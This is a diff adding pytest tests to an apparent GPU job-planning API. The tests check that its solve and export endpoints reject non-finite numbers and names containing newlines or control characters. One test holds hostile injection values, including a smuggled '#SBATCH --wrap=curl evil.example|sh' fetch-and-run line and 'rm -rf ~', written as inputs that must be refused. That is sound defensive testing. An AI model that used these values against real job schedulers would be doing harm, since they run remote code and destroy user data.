@@ -243,3 +243,71 @@ def test_gpuplan_serve_beyond_loopback_makes_and_prints_a_token(tmp_path):
     finally:
         proc.terminate()
         proc.wait(timeout=30)
+
+
+# --------------------------------------------------------------------------- numbers and names of a body
+
+
+@pytest.fixture(scope="module")
+def best_plan(local) -> dict:
+    r = local.post("/v1/solve", content=JOB.read_text(), headers=YAML)
+    assert r.status_code == 200, r.text
+    return r.json()["best"]
+
+
+def _export_body(plan: dict, kind: str = "slurm") -> str:
+    return yaml.safe_dump(yaml.safe_load(JOB.read_text()) | {"export": {"kind": kind, "plan": plan}})
+
+
+def _with(plan: dict, path: str, value: object) -> dict:
+    changed = json.loads(json.dumps(plan))
+    *parents, last = path.split(".")
+    place = changed
+    for key in parents:
+        place = place[key]
+    place[last] = value
+    return changed
+
+
+@pytest.mark.parametrize("kind", ["slurm", "kubernetes", "skypilot", "torchrun"])
+def test_nan_and_infinity_in_an_export_plan_are_422_naming_the_field(local, best_plan, kind):
+    assert local.post("/v1/export", content=_export_body(best_plan, kind), headers=YAML).status_code == 200
+    for path in ("hours.p90", "hours.p50", "step_s", "cost_usd.p90", "memory_gib.total"):
+        for value in (float("nan"), float("inf"), float("-inf")):
+            r = local.post("/v1/export", content=_export_body(_with(best_plan, path, value), kind), headers=YAML)
+            error = refused(r, 422, f"export.plan.{path}")
+            assert "finite number" in error["detail"], error
+
+
+def test_nan_and_infinity_anywhere_in_a_body_are_422_naming_the_field(local):
+    for old, new, field in [
+        ("tokens: 20B", "tokens: .nan", "job.tokens"),
+        ("seq_len: 4096", "seq_len: .inf", "job.seq_len"),
+        ("tokens: 20B", "tokens: 20B\n  extra_numbers: [1, -.inf]", "job.extra_numbers[1]"),
+    ]:
+        text = JOB.read_text()
+        assert old in text
+        r = local.post("/v1/solve", content=text.replace(old, new), headers=YAML)
+        refused(r, 422, field)
+    r = local.post("/v1/check", content=JOB.read_text() + "\ncheck: {sku: B200, gpus: .nan}\n", headers=YAML)
+    refused(r, 422, "check.gpus")
+
+
+def test_names_with_line_breaks_or_controls_in_an_export_body_are_422(local, best_plan):
+    for path, value in [
+        ("offer", "nodus-b200\n#SBATCH --wrap=curl evil.example|sh"),
+        ("sku", "B200\nrm -rf ~"),
+        ("sku", "  "),
+        ("provider", "nodus\x1b[2J"),
+        ("offer", "nodus-\u202eb200"),
+        ("strategy.framework", "megatron\n"),
+    ]:
+        for kind in ("slurm", "kubernetes"):
+            r = local.post("/v1/export", content=_export_body(_with(best_plan, path, value), kind), headers=YAML)
+            error = refused(r, 422, f"export.plan.{path}")
+            assert "\n" not in error["reason"] and "#SBATCH --wrap" not in r.text, error
+    document = yaml.safe_load(JOB.read_text()) | {"export": {"kind": "slurm", "plan": best_plan}}
+    for name in ("llama\n#SBATCH --wrap=x", "llama\rx", "llama\x00", "llama\u2066x"):
+        document["job"]["name"] = name
+        r = local.post("/v1/export", content=json.dumps(document), headers=JSON)
+        refused(r, 422, "job.name")
